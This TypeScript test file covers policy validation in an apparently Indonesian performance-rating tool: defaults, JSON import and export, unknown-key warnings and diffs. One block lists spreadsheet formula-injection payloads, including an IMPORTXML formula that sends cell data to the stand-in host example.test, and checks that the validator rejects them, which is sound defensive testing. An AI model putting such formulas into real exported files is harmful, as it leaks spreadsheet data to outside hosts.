import { describe, expect, it } from 'vitest';
import { formatIssue } from '../../shared/messages/format';
import { closestKey, formulaTextIssues } from '../../shared/policy/checks';
import { policyChanges } from '../../shared/policy/diff';
import { exportPolicyJson, importPolicyJson, validatePolicy } from '../../shared/policy/io';
import { POLICY_PRESETS, PRESET_IDS } from '../../shared/policy/presets';
import { defaultPolicy, PERMENTAN_68_2012, POLICY_VERSION } from '../../shared/policy/schema';

describe('policy', () => {
  it('defaults to the national rules, with results weighing more than attendance', () => {
    const p = defaultPolicy();
    expect(p.version).toBe(POLICY_VERSION);
    expect(p.discipline.tpp.performanceShare).toBeGreaterThan(p.discipline.tpp.disciplineShare);
    expect(p.rating.matrix.di_atas.di_bawah).toBe('kurang');
    expect(p.sakip.components.reduce((s, c) => s + c.weight, 0)).toBe(100);
  });

  it('round-trips every preset through JSON export and import', () => {
    for (const id of PRESET_IDS) {
      const policy = POLICY_PRESETS[id]();
      const back = importPolicyJson(exportPolicyJson(policy));
      expect(back.ok && back.value).toEqual(policy);
    }
  });

  it('migrates an unversioned pilot policy that kept the TPP split as one percentage', () => {
    const r = validatePolicy({ tppDisciplinePercent: 30 });
    expect(r.ok).toBe(true);
    if (r.ok) {
      expect(r.value.discipline.tpp.disciplineShare).toBeCloseTo(0.3);
      expect(r.value.discipline.tpp.performanceShare).toBeCloseTo(0.7);
    }
  });

  it('names the field in Indonesian when a value is out of range', () => {
    const r = validatePolicy({
      version: 1,
      discipline: { tpp: { disciplineShare: 1.5, performanceShare: -0.5 } },
    });
    expect(r.ok).toBe(false);
    if (!r.ok) {
      const text = formatIssue(r.issue);
      expect(text).toContain('discipline.tpp');
      expect(text).toMatch(/terlalu (besar|kecil)/);
    }
  });

  it('refuses broken JSON and a policy from a newer Nilai Kerja with a clear message', () => {
    const broken = importPolicyJson('{"version": 1,');
    expect(broken.ok).toBe(false);
    if (!broken.ok) expect(formatIssue(broken.issue)).toContain('bukan JSON yang sah');
    const newer = importPolicyJson('{"version": 99}');
    expect(newer.ok).toBe(false);
    if (!newer.ok) expect(formatIssue(newer.issue)).toContain('Perbarui Nilai Kerja');
  });
});

describe('policy objects', () => {
  it('share nothing between parses, so editing one policy never changes the defaults', () => {
    const edited = defaultPolicy();
    edited.capaian.categories[0]!.min = 0.5;
    edited.sakip.components.pop();
    edited.distribution.rules.baik[0]!.share = 0.9;
    const fresh = defaultPolicy();
    expect(fresh.capaian.categories[0]!.min).toBe(0.91);
    expect(fresh.sakip.components).toHaveLength(4);
    expect(fresh.distribution.rules.baik[0]!.share).toBe(0.7);
    const imported = importPolicyJson('{"version": 1}');
    expect(imported.ok && imported.value.capaian.categories).not.toBe(fresh.capaian.categories);
  });
});

describe('policy import: unknown keys', () => {
  const messages = (input: unknown): string[] => {
    const r = validatePolicy(input);
    return r.ok ? [] : (r.issues ?? [r.issue]).map((i) => formatIssue(i));
  };

  it('names a misspelt key with the closest known one instead of dropping it', () => {
    const found = messages({
      version: 1,
      discipline: { tpp: { disciplineShar: 0.3, performanceShare: 0.7 } },
    });
    expect(found).toContain(
      'Kebijakan: kunci "discipline.tpp.disciplineShar" tidak dikenal, jadi nilainya tidak akan dipakai. ' +
        'Mungkin maksudnya "discipline.tpp.disciplineShare"? Perbaiki ejaannya lalu impor atau simpan lagi.',
    );
  });

  it('finds keys at every depth: top level, inside lists, records, with case or separator slips', () => {
    const r = validatePolicy({
      version: 1,
      Name: 'Perbup 2025',
      capaian: { categoriez: [], aggregationCap: 1.2 },
      sakip: { grades: [{ grade: 'AA', label: 'Sangat Memuaskan', above: 90, warna: 'hijau' }] },
      rating: { hasil_bands: { diAtasMin: 1.1, sesuaiMin: 0.9 } },
      discipline: {
        table: { ...PERMENTAN_68_2012, perOccurrence: { ...PERMENTAN_68_2012.perOccurrence, TL5: 0.1 } },
      },
    });
    expect(r.ok).toBe(false);
    if (r.ok) return;
    const byField = Object.fromEntries((r.issues ?? []).map((i) => [i.params?.field, i]));
    expect(byField.Name?.params?.suggestion).toBe('name');
    expect(byField['capaian.categoriez']?.params?.suggestion).toBe('capaian.categories');
    expect(byField['rating.hasil_bands']?.params?.suggestion).toBe('rating.hasilBands');
    expect(byField['discipline.table.perOccurrence.TL5']?.code).toMatch(/^POLICY_KEY_UNKNOWN/);
    // Nothing close: the message lists the keys that are known there.
    expect(byField['sakip.grades.0.warna']?.code).toBe('POLICY_KEY_UNKNOWN');
    expect(formatIssue(byField['sakip.grades.0.warna']!)).toContain(
      'Kunci yang dikenal di situ: grade, label, above',
    );
    // zod's own report of the record key is replaced, not doubled.
    expect((r.issues ?? []).filter((i) => i.params?.field === 'discipline.table.perOccurrence')).toEqual([]);
  });

  it('accepts every preset and the migrated pilot format, which hold only known keys', () => {
    for (const id of PRESET_IDS)
      expect(validatePolicy(JSON.parse(exportPolicyJson(POLICY_PRESETS[id]()))).ok).toBe(true);
    expect(validatePolicy({ name: 'Perbup 2023', tppDisciplinePercent: 40 }).ok).toBe(true);
  });

  it('suggests only a key that is close', () => {
    expect(closestKey('sesuaiMn', ['diAtasMin', 'sesuaiMin'])).toBe('sesuaiMin');
    expect(closestKey('PERFORMANCE_SHARE', ['disciplineShare', 'performanceShare'])).toBe('performanceShare');
    expect(closestKey('colour', ['id', 'label', 'min'])).toBeUndefined();
  });
});

describe('policy import: labels that a spreadsheet would run as formulas', () => {
  const hostile = [
    '=IMPORTXML("http://example.test/?"&A2, "//a")',
    '+1+HYPERLINK("http://example.test")',
    '-2+3',
    '@SUM(A1:A9)',
    '  =1+1',
  ];

  it('rejects a category, SAKIP grade or any other label starting with =, +, - or @, naming the field', () => {
    for (const label of hostile) {
      const policy = defaultPolicy();
      policy.capaian.categories[1]!.label = label;
      policy.sakip.grades[0]!.label = label;
      policy.legacy.categories[0]!.label = label;
      policy.rb.areas[2]!.label = label;
      const r = validatePolicy(JSON.parse(JSON.stringify(policy)));
      expect(r.ok, label).toBe(false);
      if (r.ok) continue;
      const fields = (r.issues ?? []).map((i) => i.params?.field);
      expect(fields).toEqual([
        'capaian.categories.1.label',
        'legacy.categories.0.label',
        'sakip.grades.0.label',
        'rb.areas.2.label',
      ]);
      const text = formatIssue(r.issue);
      expect(text).toContain('isian "capaian.categories.1.label"');
      expect(text).toContain(`diawali "${label.trim().charAt(0)}"`);
      expect(text).toContain('dapat menjalankannya sebagai rumus');
    }
  });

  it('checks the grade codes, the table and the policy name too, and lets ordinary texts through', () => {
    const r = validatePolicy({
      version: 1,
      name: '=HYPERLINK("http://example.test")',
      sakip: { grades: [{ grade: '+AA', label: 'Sangat Memuaskan', above: -1 }] },
    });
    expect(r.ok).toBe(false);
    if (!r.ok) expect((r.issues ?? []).map((i) => i.params?.field)).toEqual(['name', 'sakip.grades.0.grade']);
    expect(formulaTextIssues(POLICY_PRESETS.tulang_bawang())).toEqual([]);
    const fine = defaultPolicy();
    fine.capaian.categories[0]!.label = 'Sangat Tinggi (≥ 91%) - A';
    fine.name = 'Perbup No. 12/2025 = revisi';
    expect(validatePolicy(JSON.parse(JSON.stringify(fine))).ok).toBe(true);
  });
});

describe('policy diff', () => {
  it('lists every value that differs by its path, and nothing for equal policies', () => {
    expect(policyChanges(defaultPolicy(), defaultPolicy())).toEqual([]);
    const tuba = POLICY_PRESETS.tulang_bawang();
    const paths = policyChanges(defaultPolicy(), tuba).map((c) => c.path);
    expect(paths).toContain('discipline.table.perOccurrence.APEL');
    expect(paths).toContain('name');
    const fewer = defaultPolicy();
    fewer.capaian.categories.pop();
    expect(policyChanges(defaultPolicy(), fewer)).toContainEqual({
      path: 'capaian.categories.4.label',
      before: 'Sangat Rendah',
      after: undefined,
    });
    const uncapped = defaultPolicy();
    uncapped.capaian.aggregationCap = null;
    expect(policyChanges(defaultPolicy(), uncapped)).toEqual([
      { path: 'capaian.aggregationCap', before: 1.2, after: null },
    ]);
  });
});
